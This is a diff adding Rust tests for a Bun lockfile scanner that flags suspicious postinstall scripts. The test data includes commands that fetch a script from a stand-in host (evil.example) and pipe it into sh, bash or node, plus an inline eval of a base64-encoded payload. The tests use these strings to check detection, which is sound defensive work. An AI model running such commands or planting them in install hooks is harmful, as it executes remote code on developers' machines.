@@ -0,0 +1,50 @@
+use bun_xray_core::security::ScriptIndicator;
+use bun_xray_core::{parse_lockfile, SecurityScanner};
+use std::path::PathBuf;
+
+fn scan_with_postinstall(command: &str) -> Vec<ScriptIndicator> {
+    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../examples/minimal/bun.lockb");
+    let mut lock = parse_lockfile(&path).expect("parse");
+    lock.packages[0].scripts.postinstall = Some(command.to_string());
+    let scan = lock.scan(None);
+    assert_eq!(scan.lifecycle_scripts.len(), 1);
+    assert_eq!(scan.lifecycle_scripts[0].hook, "postinstall");
+    scan.lifecycle_scripts[0].indicators.clone()
+}
+
+#[test]
+fn benign_script_has_no_indicators() {
+    assert!(scan_with_postinstall("node-gyp rebuild").is_empty());
+    assert!(scan_with_postinstall("node scripts/postinstall.js").is_empty());
+    // `||` is not a pipe and the program after a pipe must match exactly.
+    assert!(scan_with_postinstall("prebuild-install || node-gyp rebuild").is_empty());
+    assert!(scan_with_postinstall("cat x | shasum -a 256").is_empty());
+    assert!(scan_with_postinstall("echo ok | bashful").is_empty());
+}
+
+#[test]
+fn curl_pipe_sh_is_flagged() {
+    let indicators = scan_with_postinstall("curl -fsSL https://evil.example/x.sh | sh");
+    assert!(indicators.contains(&ScriptIndicator::NetworkFetch));
+    assert!(indicators.contains(&ScriptIndicator::PipeToShell));
+}
+
+#[test]
+fn pipe_to_shell_variants_are_flagged() {
+    for command in [
+        "wget -qO- https://evil.example/x|sudo bash",
+        "curl https://evil.example/x | env FOO=1 /bin/sh",
+        "prebuild-install || curl https://evil.example/x | node",
+    ] {
+        assert!(scan_with_postinstall(command).contains(&ScriptIndicator::PipeToShell), "{command}");
+    }
+}
+
+#[test]
+fn inline_eval_with_encoded_payload_is_flagged() {
+    let indicators = scan_with_postinstall(
+        "node -e \"eval(Buffer.from('ZXZpbCgpOyBjb25zb2xlLmxvZygnaGknKTsgcmVxdWlyZSgnY2hpbGQnKQ==','base64').toString())\"",
+    );
+    assert!(indicators.contains(&ScriptIndicator::InlineEval));
+    assert!(indicators.contains(&ScriptIndicator::EncodedPayload));
+}